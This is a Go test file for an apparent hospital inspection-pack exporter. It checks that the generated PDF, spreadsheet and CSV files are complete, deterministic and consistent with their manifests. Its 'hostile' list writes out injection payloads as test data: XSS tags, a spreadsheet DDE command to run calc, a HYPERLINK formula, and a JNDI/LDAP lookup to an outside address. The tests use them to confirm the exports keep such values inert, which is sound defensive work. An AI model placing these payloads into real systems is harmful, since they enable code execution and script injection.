package inspection_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"

	"sonae/internal/identity"
	"sonae/internal/platform/document"
	"sonae/internal/platform/fault"
	"sonae/internal/platform/job"
	"sonae/internal/platform/store"
	"sonae/internal/platform/store/storetest"
	"sonae/internal/platform/text"
	"sonae/internal/review/audit"
	"sonae/internal/review/inspection"
	"sonae/internal/survey/asset"
)

// hostile are names that must stay what they are: text.
var hostile = []string{
	`<script>alert(1)</script>`,
	`=HYPERLINK("http://192.0.2.1/","click")`,
	`@SUM(A1:A9)`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`"><img src=x onerror=alert(1)>`,
	`{{.Name}} ${jndi:ldap://192.0.2.1/a} %n`,
	`%PDF-1.7 endobj (\) Tj ET`,
	`髙橋・𠮷野 端末①㈱`,
	"PC\u202ecod.exe",
}

// fill answers a sheet with something of everything and a small ledger.
func (w *world) fill() {
	w.t.Helper()
	w.asset(asset.Values{asset.FieldKind: "system", asset.FieldName: "電子カルテ", asset.FieldPatientData: "yes", asset.FieldVendor: "架空電算", asset.FieldPatchOwner: "病院"})
	for i, name := range hostile {
		w.asset(w.box(asset.Kinds[i%6], name))
	}
	w.asset(asset.Values{asset.FieldKind: "pc", asset.FieldHostName: "emr-3n-07", asset.FieldNote: "一行目\n二行目,\"引用\""})
	w.stocktake("2025-11-20")
	w.answer(gate, inspection.Yes, func(c *inspection.Confirmation) { c.ConfirmedOn = "2025-06-10" })
	w.answer(ledger, inspection.No, func(c *inspection.Confirmation) {
		c.ConfirmedOn, c.TargetOn, c.Note = "2025-06-10", "2025-11-30", "棚卸を11月に行う <b>"
	})
	w.answer(ledger, inspection.Yes, func(c *inspection.Confirmation) { c.ConfirmedOn = "2025-11-20" })
	w.answer(patches, inspection.No, func(c *inspection.Confirmation) { c.TargetOn = "2026-03-25" })
	w.answer(remote, inspection.NotApplicable, nil)
	w.must(w.tx(func(ctx context.Context, tx *store.Tx) error {
		_, err := inspection.AddLink(ctx, tx, w.cat, inspection.Link{Ref: w.ref, RowID: bcp, Kind: inspection.LinkPlace, Title: "BCP 第3版", Target: "事務室の棚 3", AddedBy: by.ID, AddedMS: w.now})
		return err
	}))
}

func (w *world) pack(d inspection.Deps, r inspection.Request) (inspection.Pack, map[string][]byte) {
	w.t.Helper()
	p, err := inspection.Make(context.Background(), d, r)
	w.must(err)
	return p, w.unpack(p)
}

// unpack reads a stored pack and checks its manifest.
func (w *world) unpack(p inspection.Pack) map[string][]byte {
	w.t.Helper()
	r, err := p.Open(context.Background(), w.db)
	w.must(err)
	zip, err := io.ReadAll(r)
	w.must(err)
	a, err := document.OpenArchive(bytes.NewReader(zip), int64(len(zip)), document.ArchiveLimits{})
	w.must(err)
	files := map[string][]byte{}
	for _, name := range a.Names() {
		f, err := a.Open(name)
		w.must(err)
		if files[name], err = io.ReadAll(f); err != nil {
			w.t.Fatal(err)
		}
	}
	var manifest struct{ Files []document.ManifestFile }
	w.must(json.Unmarshal(files[document.ManifestName], &manifest))
	if len(manifest.Files) != len(files)-1 {
		w.t.Errorf("the manifest lists %d files of %d", len(manifest.Files), len(files)-1)
	}
	for _, f := range manifest.Files {
		if hexSum(files[f.Name]) != f.SHA256 || int64(len(files[f.Name])) != f.SizeBytes {
			w.t.Errorf("%s is not what the manifest says", f.Name)
		}
	}
	if hexSum(files[document.ManifestName]) != p.ManifestSHA256 {
		w.t.Error("the pack's row has another hash than its manifest")
	}
	return files
}

func hexSum(data []byte) string {
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:])
}

// A pack is stored with snapshots, and its audit entry carries the manifest's hash.
func TestMakeStoresEverything(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		w := newWorld(t, db)
		w.fill()
		p, files := w.pack(w.deps(w.clock), w.request())
		if p.Pages < 4 || p.Answers["medical"].Yes != 1 || p.Answers["medical"].No != 1 || p.FiscalYear != 2025 || p.AsOfMS != w.now {
			t.Errorf("got %+v", p)
		}
		got, err := inspection.PackByID(t.Context(), db, p.ID)
		w.must(err)
		if got.ManifestSHA256 != p.ManifestSHA256 || got.BlobID != p.BlobID || got.Answers["medical"] != p.Answers["medical"] {
			t.Errorf("stored %+v, made %+v", got, p)
		}
		page, err := audit.List(t.Context(), db, audit.Filter{Scope: identity.Scope{All: true}, ObjectID: p.ID})
		w.must(err)
		if len(page.Entries) != 1 || !strings.Contains(fmt.Sprintf("%s", page.Entries[0].Detail), p.ManifestSHA256) || page.Entries[0].Actor.Name != "hanako" {
			t.Errorf("audit entries: %+v", page.Entries)
		}
		frozen, err := inspection.Snapshots(t.Context(), db, p.ID)
		w.must(err)
		if len(frozen) != 1 || len(frozen[0].Body.Rows) != 20 || hexSum(files["snapshot/01-medical.json"]) != frozen[0].SHA256 {
			t.Errorf("snapshots: %d", len(frozen))
		}
		// A later answer changes neither pack nor snapshot.
		w.answer(patches, inspection.Yes, nil)
		again, err := inspection.Snapshots(t.Context(), db, p.ID)
		w.must(err)
		if again[0].SHA256 != frozen[0].SHA256 || again[0].Body.Progress != frozen[0].Body.Progress {
			t.Error("a snapshot changed")
		}
		list, total, next, err := inspection.Packs(t.Context(), db, inspection.PackFilter{FacilityIDs: []string{w.ref.FacilityID}})
		if err != nil || total != 1 || len(list) != 1 || next != "" {
			t.Errorf("packs: %d of %d, next %q, %v", len(list), total, next, err)
		}
		if _, total, _, _ := inspection.Packs(t.Context(), db, inspection.PackFilter{FacilityIDs: []string{}}); total != 0 {
			t.Error("somebody without facilities sees a pack")
		}
	})
}

func TestMakeRefuses(t *testing.T) {
	db := storetest.SQLite(t)
	w := newWorld(t, db)
	for name, c := range map[string]struct {
		change func(*inspection.Request)
		code   fault.Code
	}{
		"no such edition":  {func(r *inspection.Request) { r.Edition = "r99" }, fault.CodeNotFound},
		"no such facility": {func(r *inspection.Request) { r.FacilityID = store.NewID() }, fault.CodeNotFound},
		"no such sheet":    {func(r *inspection.Request) { r.Sheets = []inspection.SheetRef{{Sheet: "x"}} }, fault.CodeNotFound},
		"no day":           {func(r *inspection.Request) { r.Date = "" }, fault.CodeInvalid},
		"no such language": {func(r *inspection.Request) { r.Lang = "fr" }, fault.CodeInvalid},
		"nobody":           {func(r *inspection.Request) { r.By.ID = "" }, fault.CodeInvalid},
		"endless sheets":   {func(r *inspection.Request) { r.Sheets = make([]inspection.SheetRef, 501) }, fault.CodeTooLarge},
	} {
		r := w.request()
		c.change(&r)
		if _, err := inspection.Make(t.Context(), w.deps(w.clock), r); !fault.Is(err, c.code) {
			t.Errorf("%s: got %v", name, err)
		}
	}
	if _, total, _, _ := inspection.Packs(t.Context(), db, inspection.PackFilter{}); total != 0 {
		t.Errorf("%d packs of refused requests", total)
	}
}

// Equal data and time give equal bytes, whatever the language.
func TestPackIsDeterministic(t *testing.T) {
	db := storetest.SQLite(t)
	w := newWorld(t, db)
	w.fill()
	for _, lang := range text.Languages() {
		r := w.request()
		r.Lang = lang
		one, files := w.pack(w.deps(w.clock), r)
		two, _ := w.pack(w.deps(w.clock), r)
		if one.ManifestSHA256 != two.ManifestSHA256 || one.SizeBytes != two.SizeBytes {
			t.Errorf("%s: two packs of the same moment differ", lang)
		}
		if lang == text.English && bytes.ContainsFunc(files["csv/checks.csv"], func(r rune) bool { return unicode.In(r, unicode.Hiragana) }) {
			t.Error("Japanese in the English lists")
		}
	}
}

// tool finds a program of Debian's; without it the test is left out, except in CI.
func tool(t testing.TB, name string) string {
	t.Helper()
	path, err := exec.LookPath(name)
	if err != nil && os.Getenv("CI") == "true" {
		t.Fatalf("%s is not installed", name)
	}
	if err != nil {
		t.Skipf("%s is not installed: this test is left out", name)
	}
	return path
}

// paper gives everything a PDF says, without white space.
func paper(t testing.TB, data []byte) string {
	t.Helper()
	program := tool(t, "pdftotext")
	file := filepath.Join(t.TempDir(), "a.pdf")
	if err := os.WriteFile(file, data, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(program, "-raw", "-enc", "UTF-8", file, "-").Output() //nolint:gosec // our own file
	if err != nil {
		t.Fatal(err)
	}
	return squeeze(string(out))
}

func squeeze(s string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsSpace(r) {
			return -1
		}
		return r
	}, s)
}

// Every answer, title and ledger value comes out of the PDF again, and the form
// stands in printed order.
func TestPaperLosesNothing(t *testing.T) {
	db := storetest.SQLite(t)
	w := newWorld(t, db)
	w.fill()
	_, files := w.pack(w.deps(w.clock), w.request())
	said := paper(t, files["pack.pdf"])
	want := []string{"架空市立あおば台病院", "立入検査パック", "令和7年度", "2026年3月5日用／2026年2月16日12:00時点", "情報花子", "令和7年6月10日", "令和7年11月20日", "令和8年3月25日",
		"はい1行／いいえ（目標日あり）1行／対象外・記入不要1行／未回答16行", "棚卸を11月に行う<b>", "事務室の棚3"}
	at := strings.Index(said, "項目名は要約です") // past the contents
	for _, r := range w.load(w.ref, w.now).Rows {
		line := squeeze(r.Title.JA)
		i := strings.Index(said[at:], line)
		if i < 0 {
			t.Errorf("%s %s is not on paper, or out of order", r.Number, line)
			continue
		}
		at += i
		answer := "（未回答）"
		if r.Answer != nil {
			answer = map[inspection.Value]string{inspection.Yes: "はい", inspection.No: "いいえ", inspection.NotApplicable: "対象外"}[r.Answer.Value]
		}
		if near := said[at:min(len(said), at+200)]; !strings.Contains(near, answer) {
			t.Errorf("%s: no %s near %s", r.Number, answer, line)
		}
	}
	err := asset.EachRow(t.Context(), db, asset.Filter{Scope: asset.Scope{All: true}}, func(a asset.Asset) error {
		for _, f := range []asset.Field{asset.FieldName, asset.FieldAssetTag, asset.FieldModel, asset.FieldSerial, asset.FieldBuilding, asset.FieldRoom, asset.FieldDepartment,
			asset.FieldCustodian, asset.FieldOSName, asset.FieldOSVersion, asset.FieldIP, asset.FieldMAC, asset.FieldVendor} {
			want = append(want, a.Cell(f))
		}
		return nil
	})
	w.must(err)
	// What the font lacks is shown as 〓 and code point; every other character stands.
	shown := strings.NewReplacer("\u202e", "〓〔U+202E〕", "𠮷", "〓〔U+20BB7〕")
	for _, s := range want {
		if s = squeeze(shown.Replace(s)); !strings.Contains(said, s) {
			t.Errorf("%q is not on paper", s)
		}
	}
	for _, code := range []string{"U+202E", "U+20BB7"} {
		if !strings.Contains(said, code+"×") {
			t.Errorf("%s cannot be printed and is not listed at the end", code)
		}
	}
}

// The spreadsheet and the CSV files hold the exact texts, and none is a formula.
func TestSheetsHoldTextOnly(t *testing.T) {
	db := storetest.SQLite(t)
	w := newWorld(t, db)
	w.fill()
	_, files := w.pack(w.deps(w.clock), w.request())
	book, err := excelize.OpenReader(bytes.NewReader(files["pack.xlsx"]))
	w.must(err)
	defer func() { _ = book.Close() }()
	var cells []string
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet)
		w.must(err)
		for y, row := range rows {
			for x, cell := range row {
				name, _ := excelize.CoordinatesToCellName(x+1, y+1)
				if formula, _ := book.GetCellFormula(sheet, name); formula != "" {
					t.Errorf("%s!%s is a formula: %s", sheet, name, formula)
				}
				cells = append(cells, cell)
			}
		}
	}
	for _, name := range hostile {
		if !slices.Contains(cells, name) {
			t.Errorf("%q is not in the workbook", name)
		}
	}
	if want := []string{"この資料について", "医療機関確認用", "回ごとの記録", "台帳", "根拠", "満たさないもの", "情報の出所", "資料"}; !slices.Equal(want, book.GetSheetList()) {
		t.Errorf("sheets %v", book.GetSheetList())
	}
	rows := readCSV(t, files["csv/ledger.csv"])
	if len(rows) != len(hostile)+3 {
		t.Errorf("%d rows in ledger.csv", len(rows))
	}
	var exact []string
	for _, row := range rows {
		for _, field := range row {
			if strings.ContainsAny(field[:min(1, len(field))], "=+-@") {
				t.Errorf("a field that a spreadsheet may run: %q", field)
			}
			exact = append(exact, document.Exact(field))
		}
	}
	for _, name := range append(hostile, "一行目\n二行目,\"引用\"") {
		if !slices.Contains(exact, name) {
			t.Errorf("%q is not in ledger.csv", name)
		}
	}
}

func readCSV(t testing.TB, data []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// The edition of this fiscal year is provisional: the paper says so on the cover and
// at every row, and in English too.
func TestProvisionalEdition(t *testing.T) {
	db := storetest.SQLite(t)
	w := newWorld(t, db)
	w.now += 280 * dayMS // November 2026
	for lang, banner := range map[string]string{"ja": "暫定の版です", "en": "Provisionaledition"} {
		r := w.request()
		r.Edition, r.Date, r.Lang = "r8", "2026-11-22", lang
		p, files := w.pack(w.deps(w.clock), r)
		said := paper(t, files["pack.pdf"])
		if strings.Count(said, banner) < 2 {
			t.Errorf("%s: the banner stands %d times", lang, strings.Count(said, banner))
		}
		marked := 0
		e, _ := w.cat.Edition("r8")
		for _, row := range e.InstitutionSheet().Rows {
			if row.Provisional() && strings.Contains(said, squeeze(row.Number)+"※2") {
				marked++
			}
		}
		if marked == 0 {
			t.Errorf("%s: no row is marked", lang)
		}
		if p.FiscalYear != 2026 || p.AsOfMS >= w.now {
			t.Errorf("%s: fiscal year %d, as of %d", lang, p.FiscalYear, p.AsOfMS)
		}
	}
}

// A pack for a past day shows the ledger and the answers of that day.
func TestPackOfThePast(t *testing.T) {
	db := storetest.SQLite(t)
	w := newWorld(t, db)
	w.fill()
	w.now += 20 * dayMS
	w.asset(asset.Values{asset.FieldKind: "pc", asset.FieldName: "NEW-PC"}) // stands 30 days before w.now
	late := w.asset(w.box(asset.KindPC, "LATE-PC"))
	w.must(w.tx(func(ctx context.Context, tx *store.Tx) error {
		_, _, err := asset.Edit(ctx, tx, asset.Scope{All: true}, late, 0, asset.Values{asset.FieldName: "RENAMED-PC"}, "sato", w.now)
		return err
	}))
	w.answer(patches, inspection.Yes, func(c *inspection.Confirmation) { c.ConfirmedOn = "2026-03-01" })
	r := w.request()
	r.Date = "2026-02-20"
	p, files := w.pack(w.deps(w.clock), r)
	if p.Answers["medical"].No != 1 {
		t.Errorf("the answer of March counts in February: %+v", p.Answers["medical"])
	}
	list := string(files["csv/ledger.csv"])
	if !strings.Contains(list, "LATE-PC") || strings.Contains(list, "RENAMED-PC") {
		t.Error("the ledger shows the name of a later day")
	}
}

// The job makes the pack; a request that cannot be made is given up.
func TestPackJob(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		w := newWorld(t, db)
		w.must(w.tx(func(ctx context.Context, tx *store.Tx) error {
			_, err := inspection.Enqueue(ctx, tx, w.request())
			return err
		}))
		jobs, err := job.List(t.Context(), db, inspection.JobPack, job.Available, 10)
		if err != nil || len(jobs) != 1 {
			t.Fatalf("%d jobs, %v", len(jobs), err)
		}
		worker := inspection.Worker(w.deps(w.clock))
		w.must(worker(t.Context(), jobs[0]))
		if _, total, _, _ := inspection.Packs(t.Context(), db, inspection.PackFilter{}); total != 1 {
			t.Errorf("%d packs", total)
		}
		jobs[0].Args = []byte(`{"edition":"r99"}`)
		if err := worker(t.Context(), jobs[0]); !fault.Is(err, fault.CodeNotFound) {
			t.Errorf("an impossible request: %v", err)
		}
	})
}

// Every row of the form names the chapter of its evidence and the page on which that
// chapter begins.
func TestRowsNameTheRightPages(t *testing.T) {
	db := storetest.SQLite(t)
	w := newWorld(t, db)
	w.fill()
	p, files := w.pack(w.deps(w.clock), w.request())
	if n := checkRowPages(t, files["pack.pdf"]); n != 20 {
		t.Errorf("%d rows of 20 name a chapter and a page", n)
	}
	if pages := layoutPages(t, files["pack.pdf"]); len(pages) != p.Pages {
		t.Errorf("%d pages, the pack says %d", len(pages), p.Pages)
	}
}

// checkRowPages compares the pages that rows of forms name with the pages on which the
// chapters begin, and counts the rows.
func checkRowPages(t testing.TB, pdf []byte) int {
	t.Helper()
	pages, found := layoutPages(t, pdf), 0
	for i, text := range pages {
		if i < 2 { // cover and contents
			continue
		}
		for _, m := range regexp.MustCompile(`(?m)\s(3\.\d+|4)[ \t]+(\d+)[ \t]*$`).FindAllStringSubmatch(text, -1) {
			found++
			page, _ := strconv.Atoi(m[2])
			heading := regexp.MustCompile(`(?m)^\s*` + regexp.QuoteMeta(m[1]) + `\.? \S`)
			if page <= i+1 || page > len(pages) || !heading.MatchString(pages[page-1]) {
				t.Errorf("chapter %s does not begin on page %s", m[1], m[2])
			}
		}
	}
	return found
}

// The file opens without complaint.
func TestPackIsASoundPDF(t *testing.T) {
	db := storetest.SQLite(t)
	w := newWorld(t, db)
	w.fill()
	p, files := w.pack(w.deps(w.clock), w.request())
	file := filepath.Join(t.TempDir(), "a.pdf")
	w.must(os.WriteFile(file, files["pack.pdf"], 0o600))
	out, err := exec.Command(tool(t, "qpdf"), "--check", file).CombinedOutput() //nolint:gosec // our own file
	if err != nil || !strings.Contains(string(out), "No syntax or stream encoding errors found") || strings.Contains(string(out), "WARNING") {
		t.Errorf("qpdf: %v\n%s", err, out)
	}
	out, err = exec.Command(tool(t, "pdfinfo"), file).CombinedOutput() //nolint:gosec // our own file
	if err != nil || !regexp.MustCompile(fmt.Sprintf(`Pages:\s+%d\n`, p.Pages)).Match(out) || strings.Contains(string(out), "Error") {
		t.Errorf("pdfinfo: %v\n%s", err, out)
	}
}

// layoutPages gives the pages of a PDF as they look.
func layoutPages(t testing.TB, data []byte) []string {
	t.Helper()
	program := tool(t, "pdftotext")
	file := filepath.Join(t.TempDir(), "a.pdf")
	if err := os.WriteFile(file, data, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(program, "-layout", "-enc", "UTF-8", file, "-").Output() //nolint:gosec // our own file
	if err != nil {
		t.Fatal(err)
	}
	pages := strings.Split(string(out), "\f")
	return pages[:len(pages)-1] // a form feed ends every page
}
